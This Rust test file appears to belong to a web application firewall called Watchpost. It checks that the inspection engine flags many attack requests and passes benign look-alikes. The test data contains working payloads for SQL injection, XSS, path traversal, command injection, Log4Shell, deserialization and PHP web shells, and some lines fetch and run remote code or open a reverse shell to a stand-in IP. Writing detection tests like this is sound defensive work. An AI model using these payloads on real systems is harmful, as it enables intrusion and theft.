//! The inspection engine on requests written for each technique, and on ordinary input
//! that looks a little like it. These are Watchpost's own examples, not corpus lines: the
//! corpus figures come from `watchpost eval web`.

use watchpost_web::{Config, Engine, Request};

fn query(q: &str) -> Request {
    Request {
        method: "GET".into(),
        path: "/search".into(),
        query: q.into(),
        headers: vec![("Host".into(), "shop.example".into())],
        ..Request::default()
    }
}

fn form(body: &str) -> Request {
    Request {
        method: "POST".into(),
        path: "/submit".into(),
        headers: vec![(
            "Content-Type".into(),
            "application/x-www-form-urlencoded".into(),
        )],
        body: body.into(),
        ..Request::default()
    }
}

/// A body sent without a `Content-Type`.
fn untyped_body(body: &str) -> Request {
    Request {
        method: "POST".into(),
        path: "/submit".into(),
        body: body.into(),
        ..Request::default()
    }
}

fn json(body: &str) -> Request {
    Request {
        method: "POST".into(),
        path: "/api/items".into(),
        headers: vec![("Content-Type".into(), "application/json".into())],
        body: body.into(),
        ..Request::default()
    }
}

/// The categories the engine reports for a request it calls an attack (empty otherwise).
fn verdict(request: &Request) -> Vec<&'static str> {
    let v = Engine::default().inspect(request);
    if !v.is_attack() {
        return Vec::new();
    }
    let mut cats: Vec<&'static str> = v.hits.iter().map(|f| f.hit.category.as_str()).collect();
    cats.dedup();
    cats
}

fn assert_attack(request: Request, category: &str) {
    let cats = verdict(&request);
    assert!(
        cats.contains(&category),
        "{category} expected for {request:?}, got {cats:?}"
    );
}

fn assert_clean(request: Request) {
    let v = Engine::default().inspect(&request);
    assert!(
        !v.is_attack(),
        "false positive on {request:?}: {:?}",
        v.hits
    );
}

#[test]
fn sql_injection_techniques() {
    for q in [
        "id=1%27%20or%20%271%27%3D%271", // tautology after a quote
        "id=5%20or%201%3D1",             // numeric tautology
        "user=admin%27--",               // comment truncation
        "id=-1%20union%20all%20select%20null,version()--", // union select
        "id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users", // inline comments
        "q=1%27%3B%20DROP%20TABLE%20users--", // stacked statement
        "id=1%20and%20sleep(5)",         // time-based
        "id=1%27%20and%20extractvalue(1,concat(0x7e,@@version))--", // error-based
        "sort=name%20order%20by%203--",  // clause appended
        "sort=%20where%20id%3D1--",      // a value that continues the query's clause
        "sort=%20limit%201,1--",
        "sort=%20having%201%3D",
        "sort=%20group%20by%201,2--",
        "id=1%27%20into%20outfile%20%27/var/www/x.php", // file write
        "q=%27;%20exec%20master..xp_cmdshell%20%27dir%27--", // stored procedure
        "q=concat(0x3a,0x3a)",                          // a probe function called
        "id=1%20OR%20(1)%3D(1)",                        // parenthesised comparison
        "id=1%3Bcall%20p(%40version)",                  // another statement
        "id=-1%23%0Aunion",                             // a union fragment over lines
        "t=information_schema",                         // the catalogue named
        "id=starts_with(password,%27a%27)::int",        // a PostgreSQL cast
        "id=1%27)%20as%20x%20where%201%3D1%20and%20(2%3D2)--", // closing a subquery
        "q=(1)*(HOPE)%20AND%208%3D3", // a false condition after a parenthesised word
        "q=HOPE%20AND%20-8%3D-3",     // signed operands
        "q=1%20AND%201%20NOT%20LIKE%200", // a negated operator
        "q=aa%27or%20current_date*0", // a function SQL calls without parentheses
        "q=select%20current_user%3B",
        "q=%27%20or%20%27%27-%27", // an expression of two empty strings
        "q=%40a%20union%20select", // union after a variable
        "email=admin%40example.com%27%3B", // a closed string ending the statement
        "q=1.e(ascii)",            // a number with an empty exponent
        "q=ALTER%20TABLE%20users%20ADD%20admin%20INT", // a schema statement
        "q=OR%20%27%7B%22b%22%3A2%7D%27%3A%3Ajsonb%20%3C%40%20%27%7B%7D%27", // JSON operators
        "q=1%20%2F*%2B%20INDEX(a)%20*%2F", // an optimizer hint
        "q=-1%20order%20by%201%2C2%2C3--", // ordering probes after a signed number
        "q=17%2C23%20order%20by%2016", // or after a list of numbers
        "q=EXEC%20sp_add_job%20%40job_name%20%3D%20%27x%27", // a system procedure
        "q=%2F*!%55NiOn*%2F%20%2F*!%53eLEct*%2F", // keywords in MySQL executable comments
        "order=(8362%3D9139)*9139", // a parenthesised comparison multiplied in
        "q=1%20and%20select%20top%2010%20name%20from%20users", // SQL Server's select top
        "q=1%3B%20delete%20low_priority%20from%20logs", // a delete with modifiers
        "q=backup%20database%20master%20to%20disk%3D%27%5C%5Chost%5Cx%27", // a backup out
        "q=x%20as%20y%20where%201%3D1%20and%202%3D2", // a clause comparing numbers
        "q=1%3Btruncate%20table%20logs", // emptying a table
        "q=1%3Breplace%20into%20t%20values%20(1)", // rewriting rows
        "q=execute%20immediate%20%27drop%20table%20t%27", // Oracle's dynamic SQL
        "id=lo_get(16400)",        // a PostgreSQL large object read
        "q=bb%27%20like%201%20--%20-x", // a closed string, an expression, a comment
        "q=y%27-name--",           // the same with an operand alone
        "q=PQ%20AND%202%3D2%20AND%20b%3Db", // a number compared with itself
        "q=bb%27%20is%20%5CN%20-%20%27", // MySQL's \N null after a closed string
        "q=7Funion%20select%203",  // Oracle's float suffix glued to UNION
        "q=k%27%20or%20%272%27%20xor%20%271", // truth values chained
        "q=2%27*col-1-%271",       // arithmetic on a column between strings
        "q=A%27%20!%3D%20%27B%27%20%3D%201%20%3D%20%272", // comparisons of strings
        // JSON inside a parameter, its string base64-encoded: `1 and 1=2 select version() --`.
        "id=%7B%22id%22%3A%22MSBhbmQgMT0yIHNlbGVjdCB2ZXJzaW9uKCkgLS0%3D%22%7D",
    ] {
        assert_attack(query(q), "sqli");
    }
    assert_attack(json(r#"{"filter": {"name": "x' OR 'a'='a"}}"#), "sqli");
    // Statements in a URL path, a quoted string among them.
    let mut in_path = query("");
    in_path.path = "/3;/*%20a%20*/%20DECLARE%20@c%20varchar(255);SELECT%20@c=%27ping%20%27".into();
    assert_attack(in_path, "sqli");
}

#[test]
fn prose_and_product_names_are_not_sql() {
    for q in [
        "q=rock%20%27n%27%20roll",
        "q=o%27reilly%20media",
        "q=48%22%20x%2036%22%20frame",
        "q=select%20the%20best%20option%20from%20the%20list",
        "q=%22where%27s%20george%22",
        "email=jane.doe%40example.com",
        "q=drop%20shipping%20and%20returns",
        "q=it%27s%20like%20that%20-%20and%20more",
        "q=what%20is%20an%20execute%20master%27s%20degree",
        "q=sin%20city%20(2005)",
        "tid=1%23web-monitor%231688379464539%237bj9idm4",
        "code=%24(%22div%22).concat(items)",
        "q=my%20database%20is%20slow",
        "q=char%20grilled%20(medium)",
        "q=%21%5Bpicture%5D(cat.png)", // a markdown image
        "q=onion%3D3",
        "q=the%20online%3Dtrue%20flag",
        "q=dress%20with%20hat%2018%27%3B",
        "q=version%201.e5",
        "q=exec%20summary%20report",
        "q=-5%20degrees",
        "q=how%20to%20truncate%20a%20string",
        "q=the%20truncate%3Dtrue%20option",
        "q=replace%20my%20card",
        "q=tom%20and%20jerry%202%3D2%20fun", // not a boolean operator beside the number
        "q=line%20one%5Cnline%20two",
        "q=sizes%201%3D1%20or%20larger",
        "q=fish%20like-minded%20folks",
        "company=D%27Angelo%20%26%20Sons%3B%20Ltd.", // a name and its list before `;`
        "q=where%27s%20my%20order%3F",               // contractions, not closed strings
        "msg=Can%27t%20log%20in%20--%20the%20link%20doesn%27t%20work%3B%20tried%20twice.",
        "msg=we%27re%20sure%20you%27ll%20like%20it%2C%20I%27m%20told",
        // Searches that open with a clause's word (at paranoia 1 too).
        "q=where%20to%20eat%20in%20nyc%202024",
        "q=where%20is%20order%205",
        "q=order%202%20pizzas",
        "q=group%203%20students",
        "q=limit%205%20per%20customer",
        "q=into%20the%20wild%202007",
        "q=having%202%20kids",
        "q=procedure%204%20steps",
        "q=where%20the%20streets%20have%20no%20name%20(1987)",
    ] {
        assert_clean(query(q));
    }
    // A quote after a contraction still closes the string.
    assert_attack(query("q=it%27s%27%20or%201%3D1--"), "sqli");
}

/// Whether the engine at `paranoia` calls `request` an attack.
fn attack_at(request: &Request, paranoia: u8) -> bool {
    let config = Config {
        paranoia,
        ..Config::default()
    };
    Engine::new(config).inspect(request).is_attack()
}

#[test]
fn sql_fragments_count_from_paranoia_two() {
    let mut wrong = Vec::new();
    for q in [
        "q=%3C%3D%3E",                                             // an operator alone
        "q=is%20not%20null",                                       // a null test alone
        "q=in%20(3,4,5)",                                          // a list test
        "q=or%2042%3D(",           // a boolean operator and a comparison left open
        "q=%26%26%20qty%20%3D%3D", // the same after &&
        "q=%2Fx9%20or",            // a value ending in a word operator
        "q=floor(",                // a function opened
        "q=if(7%3D",               // a condition opened
        "q=order%20by",            // a clause alone
        "q=union%20select",        // the union probe with nothing around it
        "q=)%20as%20t%20from",     // a subquery's alias
        "q=name%27collate%20binary--", // a closed string, SQL, a comment
        "q=xp_fileexist",          // a procedure named alone
        "q=2%3D2",                 // a comparison of literals
        "q=%27b%27%3D%27c",        // of strings
        "q=%27%20drop%20x",        // a statement keyword after a quote
        "q=%5C%27or",              // an escaped quote, then a logic operator
        "q=%27%20or%20abc!",       // a quote closed first, a boolean operator, one operand
        "q=%27msdasql%27",         // a SQL Server data provider named alone
        "q=if(7%3D7)%20select%207%20else%20drop%20function%20x--", // a T-SQL IF statement
        "q=select%20pg_sleep",     // a delay probe named before its arguments
        "q=pg_sleeping%2C%20pg_sleep", // also after a word that only starts like it
        "q=procedure%20analyse%20(", // MySQL's error probe
        "q=%27,NULL)--",           // the rest of a VALUES row, the statement cut off
        "q=x%27,%20%27admin%27)%23",
        "q=%27,1,2)%3B",
    ] {
        let request = query(q);
        if attack_at(&request, 1) || !attack_at(&request, 2) {
            wrong.push(q);
        }
    }
    assert!(wrong.is_empty(), "not a paranoia-2 fragment: {wrong:?}");
    // A form field encoded once too often and sent without a type: what follows its name
    // is read as its value, where the condition opens the value (caught at the default
    // level; `&&(` is already a whole injection there).
    for body in ["pay%3D%26%26(l%3D!0)", "pay%3Dor%20(7%3D8)"] {
        assert!(attack_at(&untyped_body(body), 2), "{body}");
    }
    // Text that has the same words and signs, which paranoia 2 leaves alone.
    for q in [
        "q=site%3Aexample.org%20union%20select", // a search about SQL
        "q=exec%20noun",
        "q=zsh%20is%20the%20best!",
        "q=never%20miss%20an%20event!",
        "q=o%27%20union%20selected%20a%20few",
        "q=%22%232%20mom%22",
        "q=rock%20%27n%27%20roll%20--",
        "q=salt%20and%20pepper",
        "q=price%20%3E%3D%20100",
        "q=%22where%27s%20george%22",
        "q=%22create%22%20by%20someone",
        "q=meeting%20(",
        "q=shabby%20%22and%20white",
        "q=Order%20by%20phone", // a clause's words in a sentence
        "q=xor%20gate",         // an operator's name and a word
        "q=%3E%3E%20next",      // a pager's arrow
        "q=in%20(3%20colours)", // a parenthesis in prose
        "q=Is%20null%20allowed%3F",
        "q=a%20%3C%20b%20and%20c%20%3E%20d", // a finished condition in mid-text
        "q=age%20%3E%3D%2018%20%26%26%20country%20%3D%3D%20%27US%27",
        "q=Dad%27s%20or%20Mom%27s", // a word before the quote
        "q=%22and%20when%20the%20kids%20are%20old%22", // a quoted sentence
        "q=gallery%3D1%3D5",        // a parameter echoed in a link
        "q=If%20(possible)%20select%20the%20blue%20one",
        "q=OpenQuery%20is%20a%20feature",
        "q=or%20what%3F",    // a question, not a dangling operator
        "q=pg_sleeping_bag", // a name that only starts like a probe
        "q=and%20why%3F",
        "q=%27a%27,%20%27b%27)", // a list and a bracket, nothing cut off
    ] {
        if attack_at(&query(q), 2) {
            wrong.push(q);
        }
    }
    assert!(wrong.is_empty(), "flagged at paranoia 2: {wrong:?}");
}

#[test]
fn cross_site_scripting_techniques() {
    for q in [
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
        "q=%3Csvg/onload%3Dalert(1)%3E",
        "url=javascript:alert(1)",
        "url=jav%26%23x61;script:alert(1)", // entity inside the scheme
        "q=%22%20onmouseover%3D%22alert(1)", // attribute breakout
        "q=%27;alert(String.fromCharCode(88))//", // JS string breakout
        "q=%3C/textarea%3E%3Cb%3Ehi",       // closing the surrounding element
        "q=%3Cdiv%20style%3D%22background:url(javascript:alert(1))%22%3E",
        "q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D", // base64
        "q=%3Cbody%3Ehello",                          // document structure
        "q=%3Ca%20href%3D%22http://203.0.113.9/login%22%3Eyour%20account%3C/a%3E", // injected link
        "q=%26%23x003C",                              // a numeric reference to `<`
        "q=(alert)(1)",
        "q=%3C!--%20IE%206-8%20--%3E", // comment injection
        "q=%3Cinput%20name%3D%22password%22%20type%3D%22password%22%3E", // form hijack
        "q=foo%3Cf%20o%20r%20m",       // a tag spelled with spaces
        "a=!!%5B%5D",                  // JSFuck
        "a=%20onload%3D%20%3Dvardata", // a DOM event handler assigned
        "a=x%3Durl(javascript",        // script in a CSS url()
        "a=document%20/*x*/.%20cookie", // comments in a property chain
        "a=Reflect.sort.call%60%60",   // a call through a tagged template
        "a=%3Cxml%20id%3Dx%20src%3D%22a.htc%22%3E", // an XML data island
        "q=PDxzY3IAaXB0L3NyYz1odHRwOi8veHNzLmNvbS94c3MuanM%20PC9zY3JpcHQ", // base64 words
        "q=%5Cx3c",                    // an escaped `<` alone
        "q=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-", // UTF-7
    ] {
        assert_attack(query(q), "xss");
    }
}

#[test]
fn ordinary_markup_and_words_are_not_xss() {
    for q in [
        "q=javascript%3A%20the%20good%20parts",
        "q=a%20%3C%20b%20and%20c%20%3E%20d",
        "q=%3Cb%3Ebold%3C/b%3E",
        "q=onion%20rings%3D%20tasty",
        "q=confirm%20my%20order",
        "q=see%20%3Ca%20href%3D%22/help%22%3Ehelp%3C/a%3E", // a relative link in rich text
        "q=fish%20%26amp%3B%20chips",
        "q=everybody%20loves%20the%20weekend",
    ] {
        assert_clean(query(q));
    }
}

#[test]
fn traversal_and_file_inclusion() {
    for q in [
        "file=../../../../etc/passwd",
        "file=..%252f..%252f..%252fetc%252fpasswd", // double encoding
        "file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", // overlong UTF-8
        "file=..%5c..%5cwindows%5cwin.ini",         // backslashes
        "page=php://filter/convert.base64-encode/resource=index.php",
        "lang=/proc/self/environ",
        "file=%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", // look-alikes
        "file=/........../boot.ini",                                // dot runs
        "file=%3F%3F%25bg%25qf%3F%3F%25bg%25qfetc%25bg%25qfpasswd", // undecodable separators
        "file=C:/unattend.txt",                                     // a path on a drive
    ] {
        let cats = verdict(&query(q));
        assert!(
            cats.contains(&"path_traversal") || cats.contains(&"lfi"),
            "{q}: {cats:?}"
        );
    }
    let mut r = query("");
    r.path = "/static/..%2f..%2f..%2fetc/passwd".into();
    assert_attack(r, "path_traversal");
    // Absolute paths into the system's own folders, and files no site serves.
    assert_attack(query("log=/var/adm/messages"), "lfi");
    assert_attack(query("cfg=C:%5Cxampp%5CphpMyAdmin%5Cconfig.inc.php"), "lfi");
    // A Referer's parameters are the previous page's input, judged as query parameters.
    for referer in [
        "https://shop.example/view?log=/var/adm/messages",
        "https://shop.example/view?page=http://203.0.113.9/shell.txt%3F",
    ] {
        let cats = verdict(&Request {
            headers: vec![("Referer".into(), referer.into())],
            ..query("q=1")
        });
        assert!(
            cats.contains(&"lfi") || cats.contains(&"rfi"),
            "{referer}: {cats:?}"
        );
    }
    for path in ["/.git/HEAD", "/backup/site.sql", "/app/.aws/credentials"] {
        let mut r = query("");
        r.path = path.into();
        assert_attack(r, "lfi");
    }
    assert_attack(query("page=http://203.0.113.9/shell.txt%3F"), "rfi");
}

#[test]
fn ordinary_paths_and_urls_are_not_traversal() {
    for q in [
        "next=/account/settings",
        "img=photos/2026/11/beach.jpg",
        "ref=https://www.example.com/blog/post?id=5",
        "v=1.2..3",
        "dir=home/projects",
        "next=/users/42/orders",
        "q=wait...%20what%3F",
        "img=/images/var/banner.png",
        "upload=C%3A%5Cfakepath%5Cphoto.jpg",
    ] {
        assert_clean(query(q));
    }
    for path in [
        "/static/app.3f9a1c.js",
        "/docs/changelog",
        "/blog/.well-known-facts",
        "/api/v2/items",
    ] {
        let mut r = query("");
        r.path = path.into();
        assert_clean(r);
    }
}

#[test]
fn command_injection_techniques() {
    for q in [
        "host=127.0.0.1%3B%20cat%20/etc/passwd",
        "host=x%7Cid",
        "host=%60whoami%60",
        "host=%24(curl%20http://203.0.113.9/x%7Csh)",
        "host=a%26%26%20net%20user",
        "cmd=w%27g%27et%20http://203.0.113.9/x", // quotes inside a word
        "cmd=cat%24%7BIFS%7D/etc/passwd",
        "cmd=/???/c?t%20/e??/p??swd",
        "cmd=%7Bcat,/etc/passwd%7D",
        "cmd=bash%20-c%20%27id%27",
        "code=ansible%20all%20-m%20ping", // an administration tool's command line
        "cmd=python3.10%20x.py",          // a versioned interpreter
        "code=time%20who",                // a wrapper around a command
        "args=env%20--version",           // a wrapper alone, with its options
        "host=x%3Bc%24%40at%20/et%24%40c/passwd", // `$@` expanding to nothing mid-word
        "cmd=%27i%27fconfig",             // a command word split by quotes
        "cmd=uname%24u%20-a",             // an unset variable glued to a word
        "x=curl%20203.0.113.9/s%20%7C%20sh", // output piped into a shell
        "cmd=%3A()%7B%20%3A%7C%3A%26%20%7D%3B%3A", // the fork bomb
        "cmd=a%3Dnc%26%26%24a%20-nlvp%20555", // a variable run as the command
        "x=%26%20FOR%20%25%5D%20IN%20(a%2Cb)DO%20cmd", // a batch loop
        "search=%7C%20dir%20c%3A",        // a bare drive letter
        "cmd=dd%20if%3D/etc/passwd%20of%3D/tmp/x",
        "view=image.jpg%26bcdboot%20/r%20file.txt",
        "args=%3Benv",                                           // a wrapper run alone
        "x=%7B,%24%27whoami%27,%7D", // ANSI-C quoting in brace expansion
        "x=~%2B",                    // a directory-stack expansion
        "x=%28%29%20%7B%20%3A%3B%20%7D%3B%20ping%20203.0.113.9", // Shellshock
        "rce=!-1!-2",                // history expansion by position
        "payload=%5Cls",             // a command escaped past aliases
        "a=%7Bl,-lh%7Ds",            // a brace expansion joining into `ls -lhs`
        "a=%7B/?s?/?i?/c?t,%7D",     // ... into a globbed path
        "args=%3Benv%20--version",   // a wrapper with its own options
        "cmd=f()%7B%20f()%20%26%20f()%3B%20%7D%3B%20f", // a fork bomb by background calls
        "cmd=d%3D/dev%26%26(sh)0%3E%24d/tcp/203.0.113.9/777", // /dev held in a variable
        "search=%26%26%2B%7C%2Bdir%20c:/", // `+` for spaces beside separators
        "host=x%3Bc%24%3Fat%20/et%24%3Fc/pas%24%3Fswd", // `$?` glued inside words
        "host=x%3Bc%24%24at%20/et%24%24c/passwd", // `$$` likewise
        "s=1%3B.sh%20whoami",        // SQLite's shell dot command
        "code=1%3B.%22shell%20whoami", // ... with a quote inside
        "x=%27i%27p%20a",            // `ip` split by quotes
        "x=a%26%26dir%20c%3A",       // a drive as the argument
        "file=id%7C",                // a command line ending in a pipe: Perl's open runs it
        "file=cat%20/etc/passwd%20%7C",
        "x=ipconfig/all", // a Windows tool with its switch glued on
        "x=a.jpg%26whoami/priv",
        "arg=%26aptitude", // a package manager after a separator
        "arg=%3Bapt-get%20install%20ncat",
        "x=%27uname%27", // a command alone in quotes
        "x=%27true%27",
        "x=%22whoami%22",
        "f=sh%20install.sh", // a shell given a script
        "f=rc%20script.sh",
        "x=echo%20%7C%20%24%7Bx%7Dgcc", // a command piped into an expansion
        "search=%2Bdir%2Bc:%22",        // `+` for spaces where the value opened with one
        "x=echo%20whoami%7C%240",       // a line piped into the shell that runs it
        "x=who%5Eami",                  // cmd.exe's carets split a word
        "x=%40%5Ep%5Eo%5Ew%5Ee%5Er%5Eshell%20-nop",
        "x=backup_name%3B%20ls", // a bare command after an identifier
        "x=cat%20%24%7BHOME%3A0%3A1%7Detc%24%7BHOME%3A0%3A1%7Dpasswd", // `/` cut from $HOME
        "host=127.0.0.1%3B%20sleep%2010", // the delay of a blind injection
        "x=powershell%20IEX(New-Object%20Net.WebClient).DownloadString(%27http://203.0.113.9/a%27)",
        "x=vi%20-c%20%27%3A!sh%27", // vi's start-up command runs a shell
        "code=%3Bvi%20x%20%2Bsilent%5C%20%5C!whoami%20%2Bwq",
        "x=which%20nc%20python3", // where the next step's tools are
        "x=command%20-v%20curl",
        "x=netsh%20firewall%20set%20opmode%20disable", // Windows' own tools
        "x=%26%20netsh%20advfirewall%20set%20allprofiles%20state%20off",
        "x=cmdkey%20/list",
    ] {
        assert_attack(query(q), "cmdi");
    }
    for agent in [
        "visudo",
        "chef-shell",
        "cscli alerts list",
        "id",
        "set -o history",
        "chef report nodes",
        "code=ansible-console",
    ] {
        assert_attack(
            Request {
                headers: vec![("User-Agent".into(), agent.into())],
                ..query("q=1")
            },
            "cmdi",
        );
    }
    assert_attack(
        Request {
            headers: vec![("Referer".into(), "id".into())],
            ..query("q=1")
        },
        "cmdi",
    );
}

#[test]
fn client_names_and_quoted_words_are_not_commands() {
    // Programs name themselves bare or versioned in a User-Agent; products are
    // capitalised; a developer's test agent is a word.
    for agent in [
        "wget",
        "Wget/1.21.4",
        "curl/8.5.0",
        "python",
        "Ruby",
        "Java/1.8.0_151",
        "test",
        "ping", // a monitor's name
        "uptime",
        "CC Metadata Scaper http://wiki.creativecommons.org/Metadata_Scraper",
        "make my day crawler (contact@example.org)",
        "bingbot",
        "sap xsuaa",
    ] {
        assert_clean(Request {
            headers: vec![("User-Agent".into(), agent.into())],
            ..query("q=1")
        });
    }
    for referer in ["https://shop.example/cart?id=3", "id.example/page"] {
        assert_clean(Request {
            headers: vec![("Referer".into(), referer.into())],
            ..query("q=1")
        });
    }
    for q in [
        "q=%22test%22", // a phrase search
        "q=%22TRUE%22",
        "q=%22cat%22",
        "q=%27hello%27",
        "channels=stable%20%7C%20beta%20%7C%20rc",
        "title=Home%20%7C%20%24%7BsiteName%7D", // a template placeholder after a title
        "phone=%2B44%2020%207946%200000",
        "q=sh%20shells.txt",
        "plan=Basic%20%7C%20%240", // a price after a pipe
        "f=x%5E2%20%2B%20a%5Et",   // exponents and a transpose
        "face=%5E_%5E",
        "re=%5Estart",
        "cfg=%24%7Bport%3A-8080%7D", // a default, not a substring
        "q=sleep%208%20hours",
        "q=sleep%20well",
        "q=which%20one",              // a question, not a lookup
        "q=which%20python%20version", // a word that is not a tool
        "q=whereis%20the%20station",
    ] {
        assert_clean(query(q));
    }
}

#[test]
fn a_bare_line_break_is_a_separator_probe_from_paranoia_two() {
    let with_header = |name: &str, value: &str| Request {
        headers: vec![(name.into(), value.into())],
        ..query("q=1")
    };
    for probe in [
        query("host=%0a"),
        query("host=%0A%0D"),
        query("host=%250a"), // encoded twice
        json(r#"{"host": "%0a"}"#),
        with_header("Referer", "https://shop.example/search?q=%0a%0d"),
        with_header("Cookie", "host=%0d%0a"),
    ] {
        assert!(attack_at(&probe, 2), "a line-break probe missed: {probe:?}");
        assert!(!attack_at(&probe, 1), "flagged at paranoia 1: {probe:?}");
    }
    for ordinary in [
        form("comment=%0D%0A"),         // a textarea holding only Enter
        json(r#"{"separator": "\n"}"#), // JSON's own escape
        query("q=%5Cr%5Cn"),            // a search for the escape itself
        query("q=%0a%20"),              // a break and a space: not the bare probe
        query("lines=a%0Ab"),           // text across lines
    ] {
        assert!(!attack_at(&ordinary, 2), "false positive on {ordinary:?}");
    }
}

#[test]
fn prose_with_semicolons_and_pipes_is_not_a_command() {
    for q in [
        "msg=dear%20team%3B%20copy%20should%20reach%20us%20soon",
        "msg=results%20%7C%20more%20info%20below",
        "ua=compatible%3B%20touch%3B%20arm",
        "q=cats%20%26%20dogs",
        "ua=windows%20phone%208.0%3B%20arm%3B%20touch%3B%20nokia",
        "type=perf",
        "eta=~5",
        "q=time%20flies",
        "price=%2410%20or%20%245",
        "msg=wow!!", // an exclamation, not history
        "q=!!",
        "route=/api/*/v?/x",      // a route pattern, not a globbed program
        "q=%7Bred,green%7Dish",   // braces in prose
        "height=5%E2%80%B2%2011", // a prime for feet
        "msg=my%20ip%20is%20203.0.113.9",
        "q=ip%20address",
        "note=Total%3A%20%24%245%20or%20%24%3F", // dollar signs that are money
        "file=a%3Bb.shell%20script",
        "q=x%3B.sh",           // a file extension after a semicolon
        "tags=red%7Cgreen%7C", // a list that ends in its delimiter
        "q=news%7C",           // a word, not a program, before a pipe
        "q=a%20%7C%7C%20b%7C",
        "page=help/whoami", // a tool named inside a path
        "page=pip/install", // a switch glues only to Windows tools
        "q=rpm%20gauge",
        "msg=I%27d%20like%20to%20return%20item%204432", // a contraction, not `id`
        "msg=tail%20--%20end",                          // a dash is punctuation
        "code=if%20(a%20%3D%3D%20b)%20%7B%20return%20true%3B%20%7D", // C, not batch
    ] {
        assert_clean(query(q));
    }
}

#[test]
fn other_injections() {
    assert_attack(
        query("x=%24%7Bjndi:ldap://203.0.113.9/a%7D"),
        "java_injection",
    );
    assert_attack(
        query("x=%24%7B%24%7Blower:j%7Dndi:ldap://203.0.113.9/a%7D"),
        "java_injection",
    );
    assert_attack(form("obj=java.lang.ProcessBuilder"), "java_injection");
    assert_attack(form("java.io.ObjectInputStream=1"), "java_injection"); // in the name
    // `invokertransformer` base64-encoded inside a longer value, at an odd alignment.
    assert_attack(
        form("data=QUFBaW52b2tlcnRyYW5zZm9ybWVyQkJC"),
        "java_injection",
    );
    // Class names as JSON keys reach deserializers that map keys to types.
    assert_attack(json(r#"{"java.io.BufferedReader": "x"}"#), "java_injection");
    assert_attack(form("type=com.opensymphony.xwork2"), "java_injection");
    // Commons Collections gadget classes, named alone.
    assert_attack(form("t=runtime.prototypeclonefactory"), "java_injection");
    // The serialization magic base64-encoded at each alignment.
    for magic in ["rO0ABXNy", "KztAAU", "Cs7QAF"] {
        assert_attack(form(&format!("state={magic}")), "java_injection");
    }
    assert_clean(json(
        r#"{"runtimeVersion": "1.2", "displayName": "Java runtime"}"#,
    ));
    assert_attack(query("name=%7B%7B7*7%7D%7D"), "ssti");
    assert_attack(query("name=%7B%7B''.__class__.__mro__%7D%7D"), "ssti");
    // A template loop, opened and closed.
    assert_attack(
        query("name=%7B%25%20for%20c%20in%20%5B1%2C2%5D%25%7D%7B%7Bc%7D%7D%7B%25%20endfor%25%7D"),
        "ssti",
    );
    assert_clean(query("q=discount%2010%25%20for%20members"));
    // Windows' registry tool on a hive.
    assert_attack(
        form(
            "cmd=reg%20add%20%22HKLM%5CSystem%5CCurrentControlSet%5CControl%5CTerminal%20Server%22%20%2Fv%20fDenyTSConnections%20%2Ft%20REG_DWORD%20%2Fd%200%20%2Ff",
        ),
        "cmdi",
    );
    assert_clean(query("q=reg%20add%20form%20for%20new%20students"));
    assert_attack(
        form("code=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"),
        "php_injection",
    );
    assert_attack(query("f=%24_GET%5B0%5D(%24_GET%5B1%5D)"), "php_injection"); // variable call
    assert_attack(query("x=%22system%22(ls)%3B"), "php_injection");
    assert_attack(form("cfg=allow_url_include%3Don"), "php_injection");
    assert_attack(query("foo=FOOfsockopen()"), "php_injection"); // a long name glued on
    assert_attack(query("foo=exec%20%2F%2Fc%0D%0A%20(ls)"), "php_injection"); // line comment
    assert_attack(
        query("foo=%24%7B%27_VAR%27.%27IABLE%27%7D"),
        "php_injection",
    );
    assert_attack(query("x=somePhp%5B%2Fphp%5D"), "php_injection");
    for js in [
        "x=require(%27child_process%27).execSync(%27id%27)",
        "x=this.constructor.constructor(%27return%20process%27)()",
        "x=new%20Function%20(%27return%201%27)",
        "eval=while(!false)",
        "eval=while(Infinity)%3B",
        "x=%5F%5Fproto%5F%5F%5Btest%5D=1", // prototype pollution through a parameter name
        "x=constructor%5Bprototype%5D%5Bx%5D",
        "c=XyQkTkRfRlVOQyQkXwo%3D", // `_$$ND_FUNC$$_` base64-encoded
    ] {
        assert_attack(query(js), "js_injection");
    }
    assert_clean(json(
        r#"{"log": "function(){try{e(document.querySelector(x))}catch(e){}}"}"#,
    ));
    assert_clean(query("code=while(i%3Cn)%20i%2B%2B"));
    assert_attack(
        Request {
            headers: vec![(
                "X-Filename".into(),
                "sess_d8ew88tqmabdcokhumchy8htqm".into(),
            )],
            ..form("a=b")
        },
        "php_injection",
    );
    // An upload named like a shell, client or server configuration file, or a kernel
    // interface that runs a program when written.
    for name in [
        ".bashrc",
        ".user.ini",
        "authorized_keys",
        ".npmrc",
        "core_pattern",
        "release_agent",
        "../../sys/kernel/uevent_helper",
    ] {
        assert_attack(
            Request {
                headers: vec![("X-Filename".into(), name.into())],
                ..form("a=b")
            },
            "file_upload",
        );
    }
    for name in [
        "profile.png",
        "acpi-spec.pdf",
        "JACpic.jpg",
        "core_pattern_notes.txt",
    ] {
        assert_clean(Request {
            headers: vec![("X-Filename".into(), name.into())],
            ..form("a=b")
        });
    }
    assert_attack(query("user%5B%24ne%5D=x"), "nosqli");
    assert_attack(
        query("q=%27%20%26%26%20this.password.match(%2F.*%2F)%2F%2F"),
        "nosqli",
    );
    assert_attack(query("filter=0%3Breturn%20true"), "nosqli");
    // A loop spinning until time has passed: the timing probe in server-side JavaScript.
    assert_attack(
        query("w=0%3Bvar%20d%3Dnew%20Date()%3Bdo%7Bc%3Dnew%20Date()%3B%7Dwhile(c-d%3C10000)"),
        "js_injection",
    );
    // base64 quoted inside a structured value: `0' || 2=1e1union all /*!select*/ 1, 2#`.
    assert_attack(
        form("id=%7B%27id%27%3A+%27MCcgfHwgMj0xZTF1bmlvbiBhbGwgLyohc2VsZWN0Ki8gMSwgMiM%3D%27%7D"),
        "sqli",
    );
    // A prime standing in for the quote.
    assert_attack(query("q=%29%20or%20%271%E2%80%B2%3D%271"), "sqli");
    assert_attack(query("user=admin)(%7C"), "ldapi"); // a filter broken out at the end
    assert_attack(query("url=host.docker.internal%2F"), "ssrf"); // no scheme
    assert_attack(query("u=unix:AAAA%7Chttp://x.example/"), "ssrf"); // mod_proxy's socket syntax
